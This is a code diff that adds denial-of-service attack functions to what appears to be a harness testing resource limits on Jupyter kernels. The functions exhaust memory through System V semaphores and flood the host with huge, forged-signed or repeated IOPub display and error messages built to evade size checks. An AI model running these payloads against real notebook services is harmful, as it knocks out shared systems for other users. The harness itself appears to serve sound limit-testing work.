@@ -11,6 +11,7 @@ import sys
 import time
 from pathlib import Path
 
+from attacks.cells.prelude import call
 from attacks.score import more_than
 from attacks.stage import Stage
 from attacks.words import Report, attack
@@ -98,6 +99,25 @@ def memory_in_files(c):
         for descriptor in descriptors:
             os.close(descriptor)
     return "1920 MB"
+
+
+@attack("resource", more_than("kernel_memory_mb"), own_kernel=True)
+def memory_in_semaphores(c):
+    """Taking memory as System V semaphores, which no process shows (up to 1.5 GB)"""
+    sets = []
+    for index in range(800):
+        try:
+            sets.append(call("semget", 0, 32_000, 0o600))
+        except OSError:
+            if not index:
+                raise
+            break
+    try:
+        time.sleep(1)
+        return f"{len(sets) * 32_000 * 64 >> 20} MB"
+    finally:
+        for identifier in sets:
+            call("semctl", identifier, 0, 0)
 
 
 @attack("resource", more_than("file_mb"), own_kernel=True)
@@ -253,3 +273,54 @@ def large_message(c):
 
     display({"text/plain": "x" * (400 << 20)}, raw=True)
     return "400 MB in a message"
+
+
+@attack("resource", more_than("host_memory_mb"), own_kernel=True, timeout_s=25, no_control=HOLDS)
+def message_of_many_items(c):
+    """A message of 75 MB that stands for 25 million lists"""
+    kernel = get_ipython().kernel  # noqa: F821 - IPython's
+    message = kernel.session.msg("display_data", parent=kernel.get_parent("shell"))
+    frames = kernel.session.serialize(message)
+    frames[5] = b'{"metadata":{},"data":{"text/plain":[' + b"[]," * (25 << 20) + b"1]}}"
+    frames[1] = kernel.session.sign(frames[2:6])
+    kernel.iopub_socket.send_multipart(frames)
+    return "sent"
+
+
+@attack("resource", more_than("host_memory_mb"), own_kernel=True, timeout_s=40, no_control=HOLDS)
+def changed_displays(c):
+    """180 small displays, each of which is then changed into one of 10 MB"""
+    kernel = get_ipython().kernel  # noqa: F821 - IPython's
+    for kind, size in (("display_data", 1), ("update_display_data", 10 << 20)):
+        for index in range(180):
+            content = {"data": {"text/plain": "x" * size}, "metadata": {},
+                       "transient": {"display_id": str(index)}}  # fmt: skip
+            kernel.session.send(kernel.iopub_socket, kind, content, kernel.get_parent("shell"))
+    return "1800 MB sent"
+
+
+@attack("resource", more_than("host_memory_mb"), own_kernel=True, timeout_s=40, no_control=HOLDS)
+def displays_that_are_not_text(c):
+    """180 displays and errors with 10 MB each where nobody counts: in lists, metadata, messages"""
+    kernel = get_ipython().kernel  # noqa: F821 - IPython's
+    large = "x" * (10 << 20)
+    for _ in range(60):
+        for kind, content in (
+            ("display_data", {"data": {"application/json": [large]}, "metadata": {}}),
+            ("display_data", {"data": {"text/plain": ""}, "metadata": {"a": large}}),
+            ("error", {"ename": "E", "evalue": large, "traceback": []}),
+        ):
+            kernel.session.send(kernel.iopub_socket, kind, content, kernel.get_parent("shell"))
+    return "1800 MB sent"
+
+
+@attack("resource", more_than("host_memory_mb"), own_kernel=True, timeout_s=40, no_control=HOLDS)
+def one_message_again_and_again(c):
+    """One signed message of 20 MB a hundred times, which is sent faster than it is checked"""
+    kernel = get_ipython().kernel  # noqa: F821 - IPython's
+    content = {"name": "stdout", "text": "x" * (20 << 20)}
+    message = kernel.session.msg("stream", content, parent=kernel.get_parent("shell"))
+    frames = kernel.session.serialize(message)
+    for _ in range(100):
+        kernel.iopub_socket.send_multipart(frames)
+    return "2 GB sent"
